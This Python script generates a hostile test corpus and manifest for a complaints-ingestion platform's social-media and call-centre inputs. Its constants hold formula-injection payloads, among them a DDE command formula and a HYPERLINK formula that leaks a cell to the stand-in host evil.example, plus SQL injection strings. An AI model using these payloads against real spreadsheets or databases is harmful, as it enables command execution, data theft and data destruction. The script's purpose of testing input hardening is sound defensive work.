"""(Re)create the hostile input corpus and its manifest, deterministically.

    .venv/bin/python complaints_platform_tests/hostile_corpus/make_corpus.py

The files are committed; test_hostile_corpus.py reads them, never this script. Each input enters
through its channel's real landing path (see the test), and ``manifest.json`` says, for each one,
what is hostile about it and the outcome the README's input contracts call for:

- ``silver``: in complaints_cleaned (``event_at``: the instant expected, UTC; ``neutralised``: the
  silver text must start with the formula-neutralising quote);
- ``quarantine``: in complaints_quarantine with ``rule``;
- ``duplicate``: in complaint_duplicates with ``rule`` (the kept copy is another item);
- ``rejected``: the webhook receiver answers ``rule`` (an HTTP status) and nothing lands;
- ``not_served``: the SMS provider never serves it (its received_at places it in no window);
- ``no_records``: a valid file that holds no record (a call-centre export with a header only);
- ``skipped``: a landing file the platform must not read (a write still in flight);
- ``run_fails``: a whole SMS API page that breaks the contract fails its window's run (retried
  later); nothing lands and no record is invented for it.

``locator`` is where the record is found: the landing path of a social-media envelope, ``file:line``
of a call-centre record (a bare file name: every record of that file), ``row id=N`` of a form, and
for SMS the item's line in ``sms/messages.jsonl`` (or ``sms/pages/HHMM.json item N``), matched by
the test to the page it was served on.
"""

from __future__ import annotations

import json
import re
import shutil
from datetime import UTC, datetime, timedelta
from pathlib import Path

HERE = Path(__file__).resolve().parent
DAY = "2026-11-24"
SOCIAL_WINDOW = datetime(2026, 11, 24, 12, 0, tzinfo=UTC)
CALL_CENTER_HEADER = (
    "call_id,call_started_at,agent_id,account_number,caller_name,caller_phone,notes,status,"
    "resolved_at,wait_seconds,handle_seconds"
)
HUGE = 200_000  # characters: a "200 kB" text, ten times the cleaned layer's limit
FORMULAS = [
    ("=CMD|' /C calc'!A0", "a DDE formula (=CMD|' /C calc'!A0)"),
    ("+SUM(1+1)*cmd|' /C calc'!A0", "a formula led by +"),
    ("-2+3+cmd|' /C calc'!A0", "a formula led by -"),
    ("=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"see bill\")", "a HYPERLINK formula exfiltrating a cell"),
    ("\t=1+1 tab-led formula", "a tab-led formula"),
    ("\r=1+1 carriage-return-led formula", "a carriage-return-led formula"),
    ("-- no signal since Monday, sorted yet?", "a real complaint that happens to start with - (still neutralised)"),
]
UNICODE_TEXTS = [
    ("no signal 📵😡 since 8am, ZWJ family 👨‍👩‍👧‍👦 and flags 🇬🇧", "emoji, ZWJ sequences and flags"),
    ("لا توجد إشارة في المنزل منذ يومين", "Arabic, right-to-left"),
    ("אין קליטה בבית כבר יומיים", "Hebrew, right-to-left"),
    ("no signal \u202egnilleb\u202c billing \u2066isolate\u2069", "bidi override and isolate controls"),
    ("Z̸̢a̵l̷g̶o̴ text: no signal à la café, ﬁ ligature, e\u0301 combining", "combining marks and ligatures"),
    ("信号がない、請求書が間違っています", "CJK"),
]
SQL_TEXTS = [
    ("'; DROP TABLE complaint_forms; --", "SQL injection text (DROP TABLE)"),
    ("Robert'); DELETE FROM complaint_forms WHERE 1=1; -- my bill is wrong", "SQL injection inside a complaint"),
    ("\" OR \"1\"=\"1\" UNION SELECT * FROM customers --", "SQL UNION injection text"),
]

manifest: list[dict] = []


def item(id_: str, channel: str, input_: str, hostile: str, expected: str, rule=None, **extra) -> None:
    entry = {"id": id_, "channel": channel, "input": input_, "hostile": hostile, "expected": expected, "rule": rule}
    entry.update({k: v for k, v in extra.items() if v is not None})
    manifest.append(entry)


def write(relative: str, data: bytes | str) -> None:
    path = HERE / relative
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data.encode("utf-8") if isinstance(data, str) else data)


def iso(moment: datetime) -> str:
    return moment.astimezone(UTC).strftime("%Y-%m-%dT%H:%M:%S.%fZ")


def huge(words: str) -> str:
    return (words * (HUGE // len(words) + 1))[:HUGE]


# --- social media: webhook bodies POSTed to the receiver, and envelope files as landed -------------


def social() -> None:
    counter = iter(range(1, 1000))

    def post(text="no signal in Leeds since 8am", created_at="2026-11-24T11:50:00Z", handle=None, **data):
        n = data.pop("_n")
        data = {"text": text, "created_at": created_at, **data}
        body = {
            "type": "social.post.created",
            "timestamp": "2026-11-24T11:50:01.000Z",
            "data": {
                "platform": "twitter",
                "post_id": f"18599{n:05d}",
                "author": {"handle": handle or f"@hc_user{n:03d}", "display_name": f"Hostile User {n}"},
                "text": text,
                "created_at": created_at,
                "in_reply_to": None,
                "lang": "en",
            },
        }
        body["data"].update(data)
        body["data"] = {key: value for key, value in body["data"].items() if value is not _DROP}
        return body

    def body_item(hostile, expected, rule=None, body=None, raw: bytes | None = None, *, ascii_only=False,
                  received_offset=None, **extra):
        n = next(counter)
        id_ = f"sm-{n:03d}"
        if raw is None:
            payload = body(n) if callable(body) else body
            raw = json.dumps(payload, ensure_ascii=ascii_only).encode("utf-8")
        write(f"social_media/bodies/{id_}.body", raw)
        received = SOCIAL_WINDOW + (received_offset or timedelta(minutes=1, seconds=n % 50, microseconds=n))
        landed = expected != "rejected"
        locator = f"social_media/date={DAY}/{received:%H}{received.minute - received.minute % 15:02d}/{id_}.json" if landed else None
        item(id_, "social_media", f"social_media/bodies/{id_}.body", hostile, expected, rule,
             locator=locator, received_at=iso(received) if landed else None, **extra)
        return id_

    p = lambda **kw: (lambda n: post(_n=n, **kw))  # noqa: E731

    body_item("baseline: a well-formed post", "silver", body=p(), event_at="2026-11-24T11:50:00Z")
    # Timestamps: a dozen formats and zones; created_at without an offset is UTC (the contract's ISO-8601).
    times = [
        ("2026-11-24T11:50:00z", "lowercase z", "silver", None, "2026-11-24T11:50:00Z"),
        ("2026-11-24T11:50:00+00:00", "+00:00", "silver", None, "2026-11-24T11:50:00Z"),
        ("2026-11-24T17:20:00+05:30", "+05:30 (India)", "silver", None, "2026-11-24T11:50:00Z"),
        ("2026-11-24T03:50:00-08:00", "-08:00 (Pacific)", "silver", None, "2026-11-24T11:50:00Z"),
        ("2026-11-25T01:50:00+14:00", "+14:00, the next calendar day (Kiribati)", "silver", None, "2026-11-24T11:50:00Z"),
        ("2026-11-23T23:50:00-12:00", "-12:00, the previous calendar day", "silver", None, "2026-11-24T11:50:00Z"),
        ("2026-11-24T12:50:00+0100", "offset without a colon", "silver", None, "2026-11-24T11:50:00Z"),
        ("2026-11-24T12:50:00+01", "hour-only offset (ISO-8601)", "silver", None, "2026-11-24T11:50:00Z"),
        ("2026-11-24T11:50:00.123Z", "milliseconds", "silver", None, "2026-11-24T11:50:00.123Z"),
        ("2026-11-24T11:50:00.123456789Z", "nanoseconds (truncated to microseconds)", "silver", None, "2026-11-24T11:50:00.123456Z"),
        ("2026-11-24T11:50Z", "no seconds", "silver", None, "2026-11-24T11:50:00Z"),
        ("2026-11-24 11:50:00+00:00", "space instead of T", "silver", None, "2026-11-24T11:50:00Z"),
        ("2026-11-24 12:50+01:00", "space, no seconds, offset", "silver", None, "2026-11-24T11:50:00Z"),
        ("2026-11-24T11:50:00", "no offset: UTC by contract", "silver", None, "2026-11-24T11:50:00Z"),
        ("20261124T115000Z", "ISO-8601 basic format", "silver", None, "2026-11-24T11:50:00Z"),
        ("2026-11-24T11:50:00,5Z", "ISO-8601 comma decimal", "silver", None, "2026-11-24T11:50:00.5Z"),
        ("2026-W48-2T11:50:00Z", "ISO-8601 week date", "silver", None, "2026-11-24T11:50:00Z"),
        ("2026-03-29T01:30:00+01:00", "London spring-forward gap hour, but with an explicit offset", "silver", None, "2026-03-29T00:30:00Z"),
        ("2026-10-25T01:30:00+01:00", "London autumn fold, first 01:30 (BST)", "silver", None, "2026-10-25T00:30:00Z"),
        ("2026-10-25T01:30:00+00:00", "London autumn fold, second 01:30 (GMT)", "silver", None, "2026-10-25T01:30:00Z"),
        ("2026-11-24T12:10:00Z", "nine minutes after receipt: within the 15-minute clock skew", "silver", None, "2026-11-24T12:10:00Z"),
        ("Tue Nov 24 11:50:00 +0000 2026", "Twitter's legacy created_at, not ISO-8601", "quarantine", "unparseable_timestamp", None),
        ("Tue, 24 Nov 2026 11:50:00 GMT", "RFC 2822, not ISO-8601", "quarantine", "unparseable_timestamp", None),
        ("2026-11-24T11:50:00[Europe/London]", "RFC 9557 zone suffix", "quarantine", "unparseable_timestamp", None),
        ("2026-11-24", "a date without a time", "quarantine", "unparseable_timestamp", None),
        ("2026-11-24T25:61:00Z", "impossible hour and minute", "quarantine", "unparseable_timestamp", None),
        ("2026-11-24T13:00:00Z", "made an hour after it was received", "quarantine", "event_after_receipt", None),
        ("2019-06-01T00:00:00Z", "before the sources began (2020)", "quarantine", "event_before_sources", None),
        ("", "empty created_at", "quarantine", "missing_event_time", None),
        ("   ", "blank created_at", "quarantine", "missing_event_time", None),
    ]
    for created_at, what, expected, rule, event_at in times:
        body_item(f"created_at {created_at!r}: {what}", expected, rule, body=p(created_at=created_at), event_at=event_at)
    body_item("created_at null", "quarantine", "missing_event_time", body=p(created_at=None))
    body_item("created_at absent", "quarantine", "missing_event_time", body=p(created_at=_DROP))
    # Wrong types and missing required fields.
    for field, value, what in [
        ("text", 42, "text is a number"),
        ("text", ["no", "signal"], "text is an array"),
        ("text", {"en": "no signal"}, "text is an object"),
        ("text", None, "text is null"),
        ("text", _DROP, "text is absent (required)"),
        ("post_id", 1859923412, "post_id is a number (as some APIs send it)"),
        ("post_id", float("nan"), "post_id is NaN (accepted by Python's JSON, not by the contract)"),
        ("created_at", 1795442602, "created_at is a unix-seconds number"),
        ("author", "@jdoe", "author is a string, not an object"),
        ("in_reply_to", 12345, "in_reply_to is a number"),
        ("platform", True, "platform is a boolean"),
    ]:
        body_item(what, "quarantine", "unparseable_record", body=p(**{field: value}))
    body_item("author.handle is a number", "quarantine", "unparseable_record",
              body=lambda n: {**post(_n=n), "data": {**post(_n=n)["data"], "author": {"handle": 7, "display_name": "x"}}})
    body_item("data is an array", "quarantine", "unparseable_record", body={"type": "social.post.created", "data": [1, 2]})
    body_item("data is a string", "quarantine", "unparseable_record", body={"type": "social.post.created", "data": "no signal"})
    body_item("data is absent", "quarantine", "unparseable_record", body={"type": "social.post.created", "timestamp": "x"})
    body_item("an empty JSON object", "quarantine", "unparseable_record", body={})
    body_item("author absent (optional)", "silver", body=p(author=_DROP))
    body_item("type absent (optional)", "silver", body=lambda n: {"data": post(_n=n)["data"]})
    body_item("extra fields at every level (schema drift: new fields)", "silver",
              body=lambda n: {**post(_n=n, geo={"lat": 53.8, "lon": -1.5}, author={"handle": f"@hc_user{n:03d}", "display_name": "X", "verified": True, "followers": 10**12}), "delivery_attempt": 3, "x-new-field": None})
    body_item("a renamed field: data.message instead of data.text (schema drift)", "quarantine", "unparseable_record",
              body=lambda n: {**post(_n=n), "data": {**{k: v for k, v in post(_n=n)["data"].items() if k != "text"}, "message": "no signal"}})
    body_item("duplicate JSON keys: the last text wins", "silver",
              raw=b'{"type": "social.post.created", "data": {"platform": "twitter", "post_id": "1", "author": {"handle": "@hc_dupkeys"}, '
                  b'"text": "first text", "text": "second text wins", "created_at": "2026-11-24T11:50:00Z"}}')
    body_item("an extra field nested 500 levels deep", "silver", body=lambda n: {**post(_n=n), "deep": json.loads("[" * 500 + "]" * 500)})
    body_item("empty text", "quarantine", "missing_text", body=p(text=""))
    body_item("whitespace-only text", "quarantine", "missing_text", body=p(text=" \n\t\u00a0 "))
    body_item(f"huge text: {HUGE} characters (body about 200 kB, under the 1 MiB limit)", "quarantine", "text_too_long",
              body=p(text=huge("no signal again, still no signal. ")))
    body_item("text of exactly 20,000 characters: the limit is inclusive", "silver", body=p(text=("slow data " * 2000)))
    body_item("text of 20,001 characters", "quarantine", "text_too_long", body=p(text=("slow data " * 2000) + "!"))
    body_item("NUL characters (JSON \\u0000 escapes) inside the text", "silver", body=p(text="no\u0000signal\u0000at all"))
    body_item("C0 control characters in the text", "silver", body=p(text="bell\u0007 backspace\u0008 escape\u001b[31m red"))
    body_item("a lone UTF-16 surrogate escape (\\ud83d: half an emoji)", "silver", body=p(text="phone died \ud83d half emoji"), ascii_only=True)
    for text, what in UNICODE_TEXTS + SQL_TEXTS:
        body_item(what, "silver", body=p(text=text))
    for text, what in FORMULAS:
        body_item(f"formula injection: {what}", "silver", body=p(text=text), neutralised=True)
    body_item("formula led by @ (@SUM(...)): the handle mask defuses it first", "silver",
              body=p(text="@SUM(1+1)*cmd|' /C calc'!A0"), neutralised=False)
    body_item("a real tweet led by @TelcoCare: masked to a token, so not prefixed", "silver",
              body=p(text="@TelcoCare no signal again"), neutralised=False)
    # The same complaint posted twice by one customer (two webhook ids, two files).
    twice = lambda n: post(_n=n, text="Broadband down for the third day running, fix it", handle="@hc_twice")  # noqa: E731
    body_item("the same post sent twice by the customer: first copy", "silver", body=twice, received_offset=timedelta(minutes=3))
    body_item("the same post sent twice by the customer: second copy", "duplicate", "same_contact_same_text", body=twice,
              received_offset=timedelta(minutes=4))
    redelivered = body_item("an event landed twice (a retry after a crash): the first landing", "duplicate", "same_source_record",
                            body=p(text="my bill is wrong, charged twice"), received_offset=timedelta(minutes=5))

    # Bodies the receiver itself refuses: they never land.
    sample = json.dumps(post(_n=999), ensure_ascii=False)
    rejected = [
        (sample[: len(sample) // 2].encode(), "truncated JSON", 400),
        (b"{'type': 'social.post.created', 'data': {'text': 'single quotes'}}", "invalid JSON (single quotes)", 400),
        (b'{"data": {"text": "trailing comma",},}', "invalid JSON (trailing commas)", 400),
        (b"", "empty body (zero bytes)", 400),
        (b"   \r\n ", "whitespace-only body", 400),
        (b'[{"data": {"text": "an array"}}]', "a JSON array, not an object", 400),
        (b'"no signal"', "a JSON string, not an object", 400),
        (b"null", "JSON null", 400),
        (b"42", "a JSON number", 400),
        (sample.encode("utf-8")[:40] + b"\xff\xfe\xfa" + sample.encode("utf-8")[40:], "invalid UTF-8 bytes", 400),
        (json.dumps(post(_n=998, text="café £40 déjà"), ensure_ascii=False).encode("latin-1"), "Latin-1 encoded body", 400),
        (("\ufeff" + json.dumps(post(_n=997))).encode("utf-16-le"), "UTF-16 LE with BOM", 400),
        (json.dumps(post(_n=996)).encode("utf-16-le"), "UTF-16 LE without BOM (decodes as UTF-8 full of NULs)", 400),
        (("\ufeff" + json.dumps(post(_n=995))).encode("utf-8"), "UTF-8 with a BOM (JSON forbids it)", 400),
        (b'{"data": {"text": "raw NUL \x00 byte", "created_at": "2026-11-24T11:50:00Z"}}', "a raw NUL byte inside a string", 400),
        (b'{"data": {"text": "raw\nnewline", "created_at": "2026-11-24T11:50:00Z"}}', "a raw control character inside a string", 400),
        (b"[" * 100_000 + b"]" * 100_000, "nested 100,000 levels deep", 400),
        (('{"data": {"text": "big int", "post_id": ' + "9" * 5000 + "}}").encode(), "a 5,000-digit integer", 400),
        (('{"data": {"text": "' + "A" * (1024 * 1024) + '"}}').encode(), "body over 1 MiB", 413),
    ]
    for raw, what, status in rejected:
        body_item(f"receiver must refuse: {what}", "rejected", status, raw=raw)

    # Envelope files as they sit in landing: the receiver writes whole ones, but disks and
    # hands are not the receiver. Each is written as-is at its locator.
    def envelope_item(name, content: bytes, hostile, expected, rule=None, window="1200", locator_name=None):
        write(f"social_media/envelopes/{name}", content)
        locator = f"social_media/date={DAY}/{window}/{locator_name or name}"
        item(name.removesuffix(".json"), "social_media", f"social_media/envelopes/{name}", hostile, expected, rule, locator=locator)

    good_body = json.dumps(post(_n=900, text="no 4G in Hull"))
    envelope = lambda **kw: json.dumps({"webhook_id": kw.pop("webhook_id", "x"), "webhook_timestamp": 1795521660,  # noqa: E731
                                        "received_at": "2026-11-24T12:01:00.000000Z", "body": good_body, **kw}).encode()
    envelope_item("env-zero-byte.json", b"", "a zero-byte envelope file", "quarantine", "unparseable_record")
    envelope_item("env-truncated.json", envelope(webhook_id="env-truncated")[:70], "a truncated envelope", "quarantine", "unparseable_record")
    envelope_item("env-not-utf8.json", b"\xff\xfe" + envelope(webhook_id="env-not-utf8"), "an envelope that is not UTF-8", "quarantine", "unparseable_record")
    envelope_item("env-body-object.json",
                  json.dumps({"webhook_id": "env-body-object", "webhook_timestamp": 1, "received_at": "2026-11-24T12:01:00Z",
                              "body": json.loads(good_body)}).encode(),
                  "envelope body is a JSON object, not the request's text", "quarantine", "unparseable_record")
    envelope_item("env-no-received-at.json", json.dumps({"webhook_id": "env-no-received-at", "body": good_body}).encode(),
                  "envelope without received_at", "quarantine", "unparseable_record")
    envelope_item("env-naive-received-at.json", envelope(webhook_id="env-naive-received-at", received_at="2026-11-24T12:01:00"),
                  "envelope received_at without a time zone", "quarantine", "unparseable_record")
    envelope_item("env-no-webhook-id.json", json.dumps({"received_at": "2026-11-24T12:01:00Z", "body": good_body}).encode(),
                  "envelope without webhook_id", "quarantine", "unparseable_record")
    envelope_item("env-extra-keys.json", envelope(webhook_id="env-extra-keys", relay="edge-7", retries=[1, 2]),
                  "envelope with extra keys (schema drift)", "silver")
    envelope_item("env-json-array.json", b"[]", "envelope is a JSON array", "quarantine", "unparseable_record")
    # The redelivery of an event whose first landing is above: same webhook id, a later window.
    first = json.loads((HERE / f"social_media/bodies/{redelivered}.body").read_text())
    envelope_item(f"{redelivered}-again.json",
                  json.dumps({"webhook_id": redelivered, "webhook_timestamp": 1795522560,
                              "received_at": "2026-11-24T12:16:00.000000Z", "body": json.dumps(first)}, ensure_ascii=False).encode(),
                  "the same event landed again 11 minutes later (a retry after a crash): the latest version wins",
                  "silver", window="1215", locator_name=f"{redelivered}.json")
    envelope_item(".env-in-flight.json", envelope(webhook_id="env-in-flight"),
                  "a hidden file: a write still in flight, never read", "skipped")


class _Drop:
    pass


_DROP = _Drop()


# --- call centre: CSV exports in the drop folder ---------------------------------------------------


def csv_file(name: str, records: list[str], *, encoding: str = "utf-8", newline: str = "\r\n",
             header: str = CALL_CENTER_HEADER, bom: bool = False) -> list[int]:
    """Write an export; return the line each record starts on (records are pre-formatted CSV)."""
    text = newline.join([header, *records]) + newline if header is not None else newline.join(records)
    data = (("\ufeff" if bom else "") + text).encode(encoding)
    write(f"call_center/{name}", data)
    starts, line = [], 1 + len(re.findall(r"\r\n|\r|\n", header + newline)) if header is not None else 1
    for record in records:
        starts.append(line)
        line += len(re.findall(r"\r\n|\r|\n", record + newline))
    return starts


def row(call_id, started="2026-11-24 09:00", notes="no signal at home", status="open", resolved="", wait="30",
        handle="120", name="Caller", phone="", account="", agent="A7") -> str:
    def cell(value: str) -> str:
        return '"' + value.replace('"', '""') + '"' if any(c in value for c in ',"\r\n') else value

    return ",".join(cell(v) for v in (call_id, started, agent, account, name, phone, notes, status, resolved, wait, handle))


def call_center() -> None:
    def items(name, specs, starts):
        for (call_id, hostile, expected, rule, extra), line in zip(specs, starts, strict=True):
            item(f"cc-{call_id}", "call_center", f"call_center/{name}", hostile, expected, rule,
                 locator=f"call_center/{name}:{line}", **extra)

    # Times: the call centre's wall clock is Europe/London unless a time carries an offset.
    times = [
        ("2026-11-24 08:00", "YYYY-MM-DD HH:MM (GMT in November)", "silver", None, "2026-11-24T08:00:00Z"),
        ("2026-11-24 08:00:30", "YYYY-MM-DD HH:MM:SS", "silver", None, "2026-11-24T08:00:30Z"),
        ("24/11/2026 08:05", "DD/MM/YYYY HH:MM", "silver", None, "2026-11-24T08:05:00Z"),
        ("24/11/2026 08:05:09", "DD/MM/YYYY HH:MM:SS", "silver", None, "2026-11-24T08:05:09Z"),
        ("2026-11-24T08:10:00Z", "ISO-8601 with Z", "silver", None, "2026-11-24T08:10:00Z"),
        ("2026-11-24T09:10:00+01:00", "ISO-8601 with +01:00: the offset wins over London", "silver", None, "2026-11-24T08:10:00Z"),
        ("2026-11-24 03:10:00-05:00", "an offset of -05:00", "silver", None, "2026-11-24T08:10:00Z"),
        ("2026-11-24 08:00:00.250", "fractional seconds", "silver", None, "2026-11-24T08:00:00.25Z"),
        ("  2026-11-24 08:00  ", "padded with spaces", "silver", None, "2026-11-24T08:00:00Z"),
        ("2026-07-15 12:00", "summer wall clock (BST, UTC+1)", "silver", None, "2026-07-15T11:00:00Z"),
        ("2026-03-29 00:59", "last minute before the spring-forward gap", "silver", None, "2026-03-29T00:59:00Z"),
        ("2026-03-29 01:30", "inside the London spring-forward gap: does not exist", "quarantine", "unparseable_timestamp", None),
        ("29/03/2026 01:00", "the first non-existent minute of the gap", "quarantine", "unparseable_timestamp", None),
        ("2026-03-29 02:00", "first minute after the gap (BST)", "silver", None, "2026-03-29T01:00:00Z"),
        ("2026-10-25 01:30", "London autumn fold: ambiguous, the earlier (BST) instant", "silver", None, "2026-10-25T00:30:00Z"),
        ("25/10/2026 01:59", "last minute of the fold, earlier instant", "silver", None, "2026-10-25T00:59:00Z"),
        ("2026-10-25 01:30:00+00:00", "inside the fold with an explicit offset", "silver", None, "2026-10-25T01:30:00Z"),
        ("2026-10-25 02:00", "after the fold (GMT)", "silver", None, "2026-10-25T02:00:00Z"),
        ("11/24/2026 08:00", "US month-first date", "quarantine", "unparseable_timestamp", None),
        ("24-11-2026 08:00", "day-first with dashes", "quarantine", "unparseable_timestamp", None),
        ("24 Nov 2026 08:00", "month name", "quarantine", "unparseable_timestamp", None),
        ("2026-11-24", "a date without a time", "quarantine", "unparseable_timestamp", None),
        ("08:00", "a time without a date", "quarantine", "unparseable_timestamp", None),
        ("2026-02-30 10:00", "30 February", "quarantine", "unparseable_timestamp", None),
        ("2026-11-24 13:00", "after the export's window closed (made after it was received)", "quarantine", "event_after_receipt", None),
        ("2019-12-31 23:59", "before the sources began", "quarantine", "event_before_sources", None),
        ("", "empty call_started_at", "quarantine", "missing_event_time", None),
    ]
    specs, records = [], []
    for n, (started, what, expected, rule, event_at) in enumerate(times, 1):
        call_id = f"T{n:02d}"
        records.append(row(call_id, started=started, notes=f"time test {n}: line dropped"))
        specs.append((call_id, f"call_started_at {started!r}: {what}", expected, rule, {"event_at": event_at}))
    records.append(row("T90", resolved="soon", status="resolved", notes="resolved time unreadable"))
    specs.append(("T90", "resolved_at 'soon'", "quarantine", "unparseable_timestamp", {}))
    records.append(row("T91", resolved="2026-03-29 01:15", status="resolved", notes="resolved in the DST gap"))
    specs.append(("T91", "resolved_at inside the spring-forward gap", "quarantine", "unparseable_timestamp", {}))
    items("calls_20261124T0000_times.csv", specs, csv_file("calls_20261124T0000_times.csv", records))

    # Cells: formula injection, SQL, unicode, NUL, sizes, statuses, durations, ragged rows.
    specs, records = [], []

    def add(call_id, hostile, expected, rule=None, record=None, **extra):
        records.append(record if record is not None else row(call_id))
        specs.append((call_id, hostile, expected, rule, extra))

    for n, (text, what) in enumerate(FORMULAS, 1):
        add(f"F{n}", f"formula injection in notes: {what}", "silver", record=row(f"F{n}", notes=text), neutralised=True)
    add("F8", "formula led by @ in notes (@SUM(A1:A9)): masked as a handle first", "silver",
        record=row("F8", notes="@SUM(A1:A9)"), neutralised=False)
    add("F9", "formula-injection cells in the name, phone and account columns (tokenised, never displayed)", "silver",
        record=row("F9", name="=cmd|' /C calc'!A0", phone="+1+1", account="@SUM(1)", notes="agent typed junk in the contact fields"))
    add("=1+1", "formula as the call_id itself (the id is kept as an id, unprefixed)", "silver",
        record=row("=1+1", notes="id is a formula"))
    for n, (text, what) in enumerate(SQL_TEXTS + UNICODE_TEXTS, 1):
        add(f"U{n}", what, "silver", record=row(f"U{n}", notes=text))
    add("N1", "a NUL byte inside notes", "silver", record=row("N1", notes="router\x00light blinking"))
    add("Q1", "quoted newlines (LF and CRLF) in notes", "silver", record=row("Q1", notes="line one\nline two\r\nline three"))
    add("Q2", "an unquoted double quote inside a field (5\" screen)", "silver",
        record='Q2,2026-11-24 09:00,A7,,Caller,,my 5" screen cracked,open,,30,120')
    add("Q3", "a quoted field with doubled quotes and commas", "silver", record=row("Q3", notes='he said "no refund", twice, "sorry"'))
    add("E1", "empty notes", "quarantine", "missing_text", record=row("E1", notes=""))
    add("E2", "whitespace-only notes (quoted)", "quarantine", "missing_text", record=row("E2", notes="  \n\t "))
    add("H1", f"huge notes: {HUGE} characters, longer than csv's 128 KiB field limit", "quarantine", "text_too_long",
        record=row("H1", notes=huge("router keeps rebooting, ")))
    add("H2", "the record after the huge one is read normally", "silver", record=row("H2", notes="after the huge note"))
    add("S1", "status in capitals with padding (' RESOLVED ')", "silver", record=row("S1", status=" RESOLVED ", resolved="2026-11-24 09:30"))
    add("S2", "status 'In Progress' (normalised)", "silver", record=row("S2", status="In Progress"))
    add("S3", "status 'pending', not in the contract", "quarantine", "unknown_status", record=row("S3", status="pending"))
    add("S4", "empty status (optional)", "silver", record=row("S4", status=""))
    add("D1", "wait_seconds negative", "quarantine", "unparseable_record", record=row("D1", wait="-5"))
    add("D2", "wait_seconds a decimal", "quarantine", "unparseable_record", record=row("D2", wait="12.5"))
    add("D3", "handle_seconds beyond 32 bits", "quarantine", "unparseable_record", record=row("D3", handle="99999999999"))
    add("D4", "durations padded and signed (' +30 ')", "silver", record=row("D4", wait=" +30 ", handle=" 60 "))
    add("D5", "durations empty (optional)", "silver", record=row("D5", wait="", handle=""))
    add("R1", "ragged row: too few fields", "quarantine", "unparseable_record", record="R1,2026-11-24 09:00,A7,broken row")
    add("R2", "ragged row: too many fields", "quarantine", "unparseable_record", record=row("R2") + ",extra,cells")
    add("", "empty call_id", "quarantine", "unparseable_record", record=row("", notes="no id given"))
    add("HDR", "the header repeated mid-file (two exports concatenated): its wait_seconds cell is no number", "quarantine", "unparseable_record",
        record=CALL_CENTER_HEADER)
    add("B1", "a row of empty cells: no record", "no_records", record=",,,,,,,,,,")
    add("L1", "an unterminated quote in the last record: it runs to the end of the file", "quarantine", "unparseable_record",
        record='L1,2026-11-24 09:00,A7,,Caller,,"runs off the end,open,,1,2')
    name = "calls_20261124T0100_cells.csv"
    starts = csv_file(name, records)
    for (call_id, hostile, expected, rule, extra), line in zip(specs, starts, strict=True):
        item(f"cc-cells-{line}", "call_center", f"call_center/{name}", hostile, expected, rule,
             locator=f"call_center/{name}:{line}", **extra)

    # Encodings.
    enc = [
        ("calls_20261124T0200_utf8_bom.csv", dict(bom=True), "UTF-8 with BOM", "Zoë’s bill €40 wrong"),
        ("calls_20261124T0201_utf16le.csv", dict(encoding="utf-16-le", bom=True), "UTF-16 LE with BOM (Excel)", "Łukasz: brak zasięgu"),
        ("calls_20261124T0202_utf16be.csv", dict(encoding="utf-16-be", bom=True), "UTF-16 BE with BOM", "Ğüneş: çekmiyor"),
        ("calls_20261124T0203_cp1252.csv", dict(encoding="cp1252"), "Windows-1252 (Latin-1 family)", "José Müller: café £40 – “smart” quotes"),
        ("calls_20261124T0204_cr_only.csv", dict(newline="\r"), "old Mac CR-only line endings", "CR only line endings"),
        ("calls_20261124T0205_lf_only.csv", dict(newline="\n"), "LF line endings", "LF only"),
    ]
    for k, (name, options, what, text) in enumerate(enc, 1):
        call_ids = [f"ENC{k}a", f"ENC{k}b"]
        starts = csv_file(name, [row(call_ids[0], notes=text, name=text.split(":")[0]), row(call_ids[1], notes=f"{what}, second row")], **options)
        for call_id, line in zip(call_ids, starts, strict=True):
            item(f"cc-{call_id}", "call_center", f"call_center/{name}", f"encoding: {what}", "silver",
                 locator=f"call_center/{name}:{line}", text_contains=text if call_id.endswith("a") else None)
    name = "calls_20261124T0206_mixed_bytes.csv"
    data = (CALL_CENTER_HEADER + "\r\n" + row("MIX1", notes="café in UTF-8") + "\r\n").encode("utf-8") + \
        (row("MIX2", notes="caf\xe9 in Latin-1") + "\r\n").encode("latin-1")
    write(f"call_center/{name}", data)
    item("cc-MIX1", "call_center", f"call_center/{name}", "mostly UTF-8 with one invalid byte: the whole file is read as Windows-1252 (mojibake, kept)",
         "silver", locator=f"call_center/{name}:2", text_contains="cafÃ©")
    item("cc-MIX2", "call_center", f"call_center/{name}", "the Latin-1 row of the mixed file", "silver",
         locator=f"call_center/{name}:3", text_contains="café in Latin-1")
    name = "calls_20261124T0207_utf16_no_bom.csv"
    write(f"call_center/{name}", (CALL_CENTER_HEADER + "\n" + row("NOBOM1") + "\n").encode("utf-16-le"))
    item("cc-utf16-no-bom", "call_center", f"call_center/{name}",
         "UTF-16 without a BOM: not a supported encoding (decodes as UTF-8 full of NULs): every record quarantined",
         "quarantine", "unparseable_record", locator=f"call_center/{name}")

    # Headers: schema drift and other exporters' habits.
    name = "calls_20261124T0300_headers.csv"
    header = " CALL_ID ,Notes,Call_Started_At,STATUS,Caller_Name,sentiment,Wait_Seconds"
    starts = csv_file(name, ["HD1,shuffled and renamed-case headers,2026-11-24 09:00,open,Ann,angry,30",
                             "HD2,a new column (sentiment) is ignored,2026-11-24 09:01,closed,Bo,calm,"], header=header)
    for n, line in enumerate(starts, 1):
        item(f"cc-HD{n}", "call_center", f"call_center/{name}",
             "headers in another order and case, padded, optional columns absent, a new column (schema drift)", "silver",
             locator=f"call_center/{name}:{line}")
    for name, header, what in [
        ("calls_20261124T0301_renamed.csv", CALL_CENTER_HEADER.replace("notes", "comments"),
         "a renamed required column (notes -> comments) without a column map (schema drift)"),
        ("calls_20261124T0302_semicolons.csv", CALL_CENTER_HEADER.replace(",", ";"), "semicolon-delimited (a European Excel export)"),
        ("calls_20261124T0303_excel_sep_line.csv", "sep=,", "Excel's 'sep=,' line before the header"),
    ]:
        records = [row(f"X{len(manifest)}a"), row(f"X{len(manifest)}b")]
        if "semicolons" in name:
            records = [r.replace(",", ";") for r in records]
        if "sep" in name:
            records = [CALL_CENTER_HEADER, *records]
        csv_file(name, records, header=header)
        item(f"cc-{name.removesuffix('.csv')}", "call_center", f"call_center/{name}", f"{what}: every record quarantined",
             "quarantine", "unparseable_record", locator=f"call_center/{name}")
    name = "calls_20261124T0304_trailing_commas.csv"
    starts = csv_file(name, [row("TC1") + ",,,", row("TC2") + ",,,"], header=CALL_CENTER_HEADER + ",,,")
    for n, line in enumerate(starts, 1):
        item(f"cc-TC{n}", "call_center", f"call_center/{name}", "trailing empty columns on the header and every row (Excel)",
             "silver", locator=f"call_center/{name}:{line}")
